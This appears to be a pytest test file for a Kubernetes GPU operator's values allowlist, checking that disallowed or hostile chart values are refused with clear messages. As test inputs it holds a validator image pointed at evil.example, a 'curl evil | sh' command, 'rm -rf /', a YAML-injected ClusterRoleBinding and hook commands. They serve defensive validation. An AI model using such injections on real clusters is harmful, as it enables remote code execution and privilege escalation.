"""spec.values takes only the chart values of values-rules/values-allowlist.yaml (api/values.py).

The API server's side of the same list (the CRD's schema generated from it) is
tests/integration/test_values_allowlist.py; the schema itself, tests/unit/test_crd.py.
"""

from __future__ import annotations

import json
import re
import tarfile
from collections.abc import Iterator
from functools import cache
from pathlib import Path
from typing import Any

import pytest
import yaml
from pydantic import ValidationError

from kyma_gpu.api.admission import admission_message
from kyma_gpu.api.models import GpuSpec
from kyma_gpu.api.values import (
    MAX_NAMED,
    NOT_LISTED,
    NOT_LISTED_MANY,
    PRUNED,
    PYTHON_TYPES,
    Allowed,
    ValueType,
    default_allowlist,
    managed_values,
    parse_allowlist,
    pruned_error,
    unlisted_values,
    values_error,
)
from kyma_gpu.facts.gpu import gpu_object

ALLOWLIST = default_allowlist()  # the module's list, as the CRD's schema is generated from it

ROOT = Path(__file__).resolve().parents[2]
CHARTS = ROOT.parent / "shared" / "charts"
VALIDATOR_IMAGE = {
    "validator": {"cuda": {"env": [{"name": "VALIDATOR_IMAGE", "value": "evil.example/x:1"}]}}
}
"""The finding of issue 43: the CUDA validator ran the Gpu editor's image, privileged."""


def nested(path: tuple[str, ...], leaf: Any) -> dict[str, Any]:
    node: Any = leaf
    for key in reversed(path):
        node = {key: node}
    result: dict[str, Any] = node
    return result


def refusal(values: Any) -> str:
    with pytest.raises(ValidationError) as caught:
        GpuSpec.model_validate({"values": values})
    return admission_message(caught.value)


def test_the_validator_image_env_entry_is_refused_naming_the_key() -> None:
    message = refusal(VALIDATOR_IMAGE)
    assert message.startswith('unknown field "spec.values.validator.cuda" ('), message
    assert "an env entry or an argument can name an image" in message
    assert NOT_LISTED in message
    assert "values-rules/values-allowlist.yaml" in message


def test_every_refused_key_is_named_with_what_to_set_instead() -> None:
    """The file of the review: three keys outside the list, and the first was the only one
    named; now each is, with the typed field or the reason, and why once at the end."""
    message = refusal({"driver": {"image": "x", "env": []}, "toolkit": {"env": []},
                       "dcgmExporter": {"enabled": False}})  # fmt: skip
    assert message == (
        'unknown field "spec.values.driver.image" (use spec.source.imageRegistry: a mirror for '
        "every operand image, which a cluster administrator lists; which images run is the "
        "module's), "
        'unknown fields "spec.values.driver.env", "spec.values.toolkit.env" (an env entry or an '
        "argument can name an image or run a command, so no Gpu field sets one: ask the "
        "module's maintainers for a typed field), "
        'unknown field "spec.values.dcgmExporter.enabled" (use spec.components.dcgmExporter): '
        f"{NOT_LISTED_MANY}"
    ), message


def test_a_refusal_names_ten_values_and_counts_the_rest() -> None:
    values = {f"key{i:02d}": "x" for i in range(13)}
    message = refusal(values)
    assert message.count("spec.values.key") == MAX_NAMED == 10
    assert message.endswith("; and 3 more refused"), message


def test_unlisted_and_mistyped_values_are_both_named() -> None:
    message = refusal({"driver": {"x": 1, "resources": {"requests": {"cpu": "lots"}}}})
    assert message.startswith(f'unknown field "spec.values.driver.x": {NOT_LISTED}; '), message
    assert "spec.values.driver.resources.requests.cpu" in message
    assert "a Resources value" in message


@pytest.mark.parametrize(
    ("path", "use"),
    [
        (("driver", "version"), "spec.driver.version"),
        (("driver", "enabled"), "spec.driver.mode"),
        (("devicePlugin", "repository"), "spec.source.imageRegistry"),
        (("vgpuManager", "image"), "spec.components.vgpuManagerImage"),
        (("migManager", "enabled"), "spec.components.migManager"),
        (("devicePlugin", "config"), "spec.sharing"),
        (("node-feature-discovery", "worker", "config"), "spec.components.nodeFeatureDiscovery"),
    ],
)
def test_a_refused_value_points_to_the_typed_field(path: tuple[str, ...], use: str) -> None:
    assert f"(use {use}" in refusal(nested(path, "x"))


def test_no_hint_matches_a_listed_value() -> None:
    entry = {"why": "a reason for it", "type": "Boolean", "paths": [["a", "b"]]}
    instead = {"use": "spec.stack", "paths": [["a", "*"]]}
    with pytest.raises(ValueError, match=r"matches the listed a\.b"):
        parse_allowlist({"charts": ["v1.0.0"], "values": [entry], "instead": [instead]})


@pytest.mark.parametrize(
    "values",
    [
        {"operator": {"env": [{"name": "DRIVER_MANAGER_IMAGE", "value": "evil"}]}},
        {"draDriver": {"env": []}},
        {"driver": {"manager": {"env": []}}},
        {"toolkit": {"installDir": "/tmp/evil"}},
        {"hostPaths": {"rootFS": "/tmp"}},
        {"dcgmExporter": {"hpcJobMapping": {"directory": "/etc"}}},
        {"dcgmExporter": {"hostPID": True}},
        {"daemonsets": {"annotations": {"sidecar.istio.io/inject": "true"}}},
        {"daemonsets": {"labels": {"app": "x"}}},
        {"node-feature-discovery": {"worker": {"config": {"sources": {}}}}},
        {"node-feature-discovery": {"master": {"extraLabelNs": ["nvidia.com"]}}},
        {"nfd": {"nodefeaturerules": True}},
        {"devicePlugin": {"config": {"name": "x"}}},
        {"migManager": {"gpuClientsConfig": {"name": "x"}}},
        {"extraObjects": []},
        {"psa": {"enabled": True}},
        {"operator": {"repository": "evil.example"}},
        {"validator": {"args": ["--evil"]}},
        {"driver": {"repoConfig": {"configMapName": "x"}}},
    ],
    ids=lambda v: json.dumps(v)[:48],
)
def test_doors_of_earlier_reviews_and_their_kin_are_refused(values: dict[str, Any]) -> None:
    assert NOT_LISTED in refusal(values)


def test_a_listed_value_of_the_wrong_type_is_refused_with_its_type() -> None:
    message = refusal({"operator": {"resources": {"requests": {"nvidia.com/gpu": 1}}}})
    assert 'unknown field "spec.values.operator.resources.requests.nvidia.com/gpu"' in message
    assert "a Resources value" in message


@pytest.mark.parametrize(
    ("value_type", "good"),
    [
        (ValueType.RESOURCES, {"requests": {"cpu": "250m", "memory": 268435456}}),
        (ValueType.TOLERATIONS, [{"key": "dedicated", "operator": "Equal", "value": "gpu"}]),
        (ValueType.PRIORITY_CLASS_NAME, "system-node-critical"),
        (ValueType.PULL_POLICY, "IfNotPresent"),
        (ValueType.BOOLEAN, True),
        (ValueType.UPDATE_STRATEGY, "OnDelete"),
        (ValueType.MAX_UNAVAILABLE, "25%"),
        (ValueType.LOG_LEVEL, "debug"),
        (ValueType.DURATION, "1m30s"),
        (ValueType.LABELS, {"release": "prometheus", "example.com/team": "ml"}),
        (ValueType.CONFIG_MAP_NAME, "custom-dcgm-metrics"),
        (ValueType.MIG_CONFIG_NAME, "all-1g.10gb"),
        (ValueType.KERNEL_MODULE_TYPE, "open"),
        (ValueType.FEATURE_GATES, {"TimeSlicingSettings": True, "MPSSupport": False}),
        (ValueType.DCGM_METRICS, "# clocks\nDCGM_FI_DEV_SM_CLOCK, gauge, SM clock (in MHz).\n"),
        (
            ValueType.MIG_CONFIG,
            "version: v1\nmig-configs:\n  all-disabled:\n  - devices: all\n"
            "    mig-enabled: false\n",
        ),
    ],
)
def test_each_type_takes_what_users_write(value_type: ValueType, good: Any) -> None:
    from pydantic import TypeAdapter

    TypeAdapter(PYTHON_TYPES[value_type]).validate_python(good, strict=True)


HOSTILE = (
    "nvcr.io/evil/validator:latest",
    "/etc/kubernetes",
    "sh -c 'curl evil | sh'",
    "IfNotPresent\n---\nkind: ClusterRoleBinding",
    "x\u2028y",
    "a" * 70000,
)
"""An image, a host path, a command, a YAML document, a line separator, a flood."""


@pytest.mark.parametrize("value_type", list(ValueType))
def test_no_type_takes_an_image_a_path_or_a_command(value_type: ValueType) -> None:
    from pydantic import TypeAdapter

    adapter = TypeAdapter(PYTHON_TYPES[value_type])
    for hostile in HOSTILE:
        for shape in (hostile, [hostile], {"x": hostile}, {hostile: "x"}, [{"key": hostile}]):
            try:
                adapter.validate_python(shape, strict=True)
            except ValidationError:
                continue
            raise AssertionError(f"{value_type} takes {shape!r:.80}")


@pytest.mark.parametrize(
    "text",
    [
        "version: v1\nhooks:\n  apply-start: [sh, -c, evil]\n",
        "version: v1\n---\nmig-configs: {}\n",
        "{version: v1, mig-configs: {}}\n",
        "version: v1\r\nmig-configs: {}\n",
    ],
)
def test_the_mig_layouts_text_names_only_mig_layouts(text: str) -> None:
    values = {"migManager": {"config": {"data": {"config.yaml": text}}}}
    assert "mig-parted's file with only" in refusal(values)


def test_the_dcgm_metrics_text_is_a_metrics_list() -> None:
    values = {"dcgmExporter": {"config": {"data": "DCGM_FI_DEV_SM_CLOCK, gauge, x\nrm -rf /\n"}}}
    assert "CSV lines" in refusal(values)


@pytest.mark.parametrize(
    "text",
    ["  DCGM_FI_DEV_SM_CLOCK, gauge, x\n", "\tDCGM_FI_DEV_SM_CLOCK, gauge, x\n",
     " \nDCGM_FI_DEV_SM_CLOCK, gauge, x\n", "\n  # clocks\nDCGM_FI_DEV_SM_CLOCK, gauge, x\n"],
    ids=repr,
)  # fmt: skip
def test_a_dcgm_text_whose_first_line_is_indented_is_refused(text: str) -> None:
    """The chart prints it as a YAML block, which takes its indentation from the first line
    that is not empty: such a text broke every render (issue 49, finding 4)."""
    assert "the first one that is not empty in the first column" in refusal(
        {"dcgmExporter": {"config": {"data": text}}}
    )


@pytest.mark.parametrize(
    "text",
    [" version: v1\n hooks:\n  apply-start: [sh]\n", "  version: v1\n", "\n # c\n x: 1\n",
     " \nversion: v1\n"],
    ids=repr,
)  # fmt: skip
def test_a_mig_text_indented_as_a_whole_is_refused(text: str) -> None:
    """Indented by one column, every line was an 'indented line' and the top level took any
    key (issue 49, finding 4)."""
    values = {"migManager": {"config": {"data": {"config.yaml": text}}}}
    assert "top-level keys version and mig-configs in the first column" in refusal(values)


@pytest.mark.parametrize(
    ("value_type", "text"),
    [
        (ValueType.DCGM_METRICS, ""),
        (ValueType.DCGM_METRICS, "\n# clocks\n\nDCGM_FI_DEV_SM_CLOCK, gauge, x\n  \n"),
        (ValueType.DCGM_METRICS, "DCGM_FI_A, gauge, a\n  DCGM_FI_B , counter , b"),
        (ValueType.MIG_CONFIG, ""),
        (ValueType.MIG_CONFIG, "# layouts\n\nversion: v1\nmig-configs:\n  a:\n  # c\n"),
    ],
    ids=repr,
)
def test_texts_that_render_are_taken(value_type: ValueType, text: str) -> None:
    from pydantic import TypeAdapter

    TypeAdapter(PYTHON_TYPES[value_type]).validate_python(text, strict=True)


def test_nulls_are_dropped_as_the_api_server_drops_them() -> None:
    spec = GpuSpec.model_validate({"values": {"toolkit": None, "driver": {"rdma": None}}})
    assert spec.values is None


@pytest.mark.parametrize(
    "values",
    [
        {"driver": {}},
        {"toolkit": {}},
        {"driver": {"rdma": {}}, "toolkit": None},
        {"driver": {"resources": {"requests": {}, "limits": {}}}},
        {"dcgmExporter": {"serviceMonitor": {"additionalLabels": {}}}},
        {},
    ],
    ids=json.dumps,
)
def test_what_the_api_server_leaves_of_a_pruned_key_sets_nothing(values: dict[str, Any]) -> None:
    """`kubectl patch --type=merge -p '{"spec":{"values":{"driver":{"env":[...]}}}}'` stores
    `driver: {}`: merged over the planned values, it emptied the driver's (issue 49)."""
    assert GpuSpec.model_validate({"values": values}).values is None


def test_what_is_set_beside_an_empty_map_stays() -> None:
    values = {"driver": {}, "toolkit": {"resources": {"limits": {"memory": "1Gi"}, "requests": {}}}}
    spec = GpuSpec.model_validate({"values": values})
    assert spec.values == {"toolkit": {"resources": {"limits": {"memory": "1Gi"}}}}


@pytest.mark.parametrize("toleration", [{}, {"value": "x"}, {"operator": "Equal"}], ids=str)
def test_a_toleration_without_a_key_is_refused(toleration: dict[str, Any]) -> None:
    """The API server leaves `{}` of a toleration whose keys it pruned; Kubernetes refuses a
    DaemonSet with it, so the release would fail on every node."""
    message = refusal({"daemonsets": {"tolerations": [toleration]}})
    assert message.startswith("spec.values.daemonsets.tolerations[0]: Invalid value: a "
                              "toleration names a key"), message  # fmt: skip
    GpuSpec.model_validate({"values": {"daemonsets": {"tolerations": [{"operator": "Exists"}]}}})


def test_a_path_listed_twice_is_an_error_of_the_list() -> None:
    entry = {"why": "a reason for it", "type": "Boolean", "paths": [["a", "b"], ["a", "b"]]}
    with pytest.raises(ValueError, match="listed twice"):
        parse_allowlist({"charts": ["v1.0.0"], "values": [entry]})


def test_an_entrys_charts_are_the_lists() -> None:
    entry = {"why": "a reason for it", "type": "Boolean", "paths": [["a"]], "charts": ["v9.9.9"]}
    with pytest.raises(ValueError, match="not among the list's"):
        parse_allowlist({"charts": ["v1.0.0"], "values": [entry]})


def test_the_list_names_the_supported_charts() -> None:
    shipped = sorted(p.stem for p in (ROOT / "values-rules" / "charts").glob("v*.yaml"))
    assert sorted(ALLOWLIST.charts) == shipped


# --- every listed path holds in every supported chart --------------------------------------


@cache
def chart_files(version: str) -> tuple[dict[str, Any], dict[str, Any], str]:
    """The chart's values.yaml, its NFD subchart's, and the text of all templates."""
    chart = CHARTS / f"gpu-operator-{version}.tgz"
    if not chart.is_file():
        pytest.fail(f"{chart} is missing: ../shared/charts holds the supported charts")
    values: dict[str, Any] = {}
    nfd: dict[str, Any] = {}
    templates: list[str] = []
    with tarfile.open(chart) as archive:
        for member in archive.getmembers():
            name = member.name
            handle = archive.extractfile(member) if member.isfile() else None
            if handle is None:
                continue
            if name == "gpu-operator/values.yaml":
                values = yaml.safe_load(handle)
            elif name == "gpu-operator/charts/node-feature-discovery/values.yaml":
                nfd = yaml.safe_load(handle)
            elif "/templates/" in name:
                templates.append(handle.read().decode())
    return values, nfd, "\n".join(templates)


def _holds(values: dict[str, Any], path: tuple[str, ...], templates: str) -> bool:
    """The chart sets a default there (or leaves an open map above it), or a template reads
    it (`.Values.a.b`, or prints a whole map above it with toYaml)."""
    node: Any = values
    for depth, key in enumerate(path):
        if isinstance(node, dict) and key in node:
            node = node[key]
            continue
        if isinstance(node, dict) and not node and depth:
            return True  # an open map of the chart's (config data: file name -> text)
        break
    else:
        return True
    dotted = ".".join(path)
    prefixes = (".".join(path[:i]) for i in range(1, len(path)))
    return f".Values.{dotted}" in templates or any(
        re.search(rf"toYaml \.Values\.{re.escape(p)} ", templates) for p in prefixes
    )


def _listed() -> Iterator[tuple[str, Allowed]]:
    for allowed in ALLOWLIST.values:
        for version in allowed.charts or ALLOWLIST.charts:
            yield version, allowed


@pytest.mark.parametrize(("version", "allowed"), list(_listed()), ids=str)
def test_each_listed_path_holds_in_each_supported_chart(version: str, allowed: Allowed) -> None:
    values, nfd, templates = chart_files(version)
    if allowed.path[0] == "node-feature-discovery":
        assert _holds(nfd, allowed.path[1:], templates), f"{allowed.dotted} in NFD@{version}"
    else:
        assert _holds(values, allowed.path, templates), f"{allowed.dotted} in {version}"


def _leaves(node: Any, path: tuple[str, ...] = ()) -> Iterator[tuple[str, ...]]:
    if isinstance(node, dict) and node:
        for key, child in node.items():
            yield from _leaves(child, (*path, str(key)))
    else:
        yield path


@pytest.mark.parametrize("version", sorted(ALLOWLIST.charts))
def test_every_other_value_of_the_charts_is_refused(version: str) -> None:
    """Every leaf of both values.yaml files: listed (and then typed), or refused by name."""
    values, nfd, _ = chart_files(version)
    leaves = [*_leaves(values), *(("node-feature-discovery", *p) for p in _leaves(nfd))]
    listed = {a.path for a in ALLOWLIST.values}
    refused = 0
    for leaf in leaves:
        if any(leaf[: len(p)] == p for p in listed):
            continue
        error = values_error(nested(leaf, "x"), ALLOWLIST)
        assert error is not None, leaf
        refused += NOT_LISTED in error.text  # else: a map of listed values, not a string
    assert refused > 300, refused  # each chart refuses some 370 to 450 leaves by name


# --- a Gpu written before the list narrowed ------------------------------------------------


def managed(values_fields: dict[str, Any]) -> list[dict[str, Any]]:
    fields = {"f:spec": {"f:values": values_fields}, "f:metadata": {"f:labels": {}}}
    return [{"manager": "kubectl-client-side-apply", "fieldsV1": fields}]


def test_managed_fields_name_a_pruned_value() -> None:
    fields = {"f:validator": {"f:cuda": {"f:env": {}}}, "f:operator": {"f:resources": {}}}
    assert unlisted_values(managed_values(managed(fields)), ALLOWLIST) == [
        "spec.values.validator.cuda"
    ]
    held = managed_values(managed({"f:operator": {"f:resources": {".": {}}}}))
    assert unlisted_values(held, ALLOWLIST) == []
    assert managed_values(None) == ()


def test_a_gpu_with_a_pruned_value_is_invalid_in_the_api_servers_words() -> None:
    body = {
        "metadata": {"name": "gpu", "uid": "u", "managedFields": managed({"f:hostPaths": {}})},
        "spec": {},
    }
    gpu = gpu_object(body)
    pruned = unlisted_values(gpu.managed_values, ALLOWLIST)
    assert pruned == ["spec.values.hostPaths"]
    message = admission_message(pruned_error(pruned))
    assert message.startswith('unknown field "spec.values.hostPaths": '), message
    assert PRUNED in message


def test_nothing_reads_the_rule_files_at_import(tmp_path: Path) -> None:
    """The allowlist comes from the Catalog (or, for a validation given none, the default
    rules directory on first use): importing the manager reads no rule file."""
    import subprocess
    import sys

    code = ("import kyma_gpu.api.values, kyma_gpu.api.models, kyma_gpu.reconcile.machine, "
            "kyma_gpu.handlers, kyma_gpu_tools.cli")  # fmt: skip
    env = {"KYMA_GPU_RULES_DIR": str(tmp_path / "none"), "PATH": "/usr/bin:/bin"}
    done = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, text=True,
                          check=False)  # fmt: skip
    assert done.returncode == 0, done.stderr


def test_the_machine_holds_spec_values_to_the_catalogs_list(tmp_path: Path) -> None:
    """A Catalog whose list lacks driver.rdma.useHostMofed: a validation with its list (as the
    machine's: Inputs.allowlist) refuses the value."""
    import shutil

    from kyma_gpu.api.values import ValuesContext, load_allowlist
    from kyma_gpu.rules.catalog import Catalog

    rules = tmp_path / "values-rules"
    shutil.copytree(ROOT / "values-rules", rules)
    text = (rules / "values-allowlist.yaml").read_text(encoding="utf-8")
    (rules / "values-allowlist.yaml").write_text(
        text.replace("      - [driver, rdma, useHostMofed]\n", ""), encoding="utf-8"
    )
    narrowed = Catalog(rules).values_allowlist
    assert narrowed == load_allowlist(rules)
    values = {"driver": {"rdma": {"useHostMofed": True}}}
    GpuSpec.model_validate({"values": values})  # the module's own list takes it
    with pytest.raises(ValidationError, match=r'unknown field "spec\.values\.driver\.rdma\.'):
        GpuSpec.model_validate({"values": values}, context=ValuesContext(narrowed))
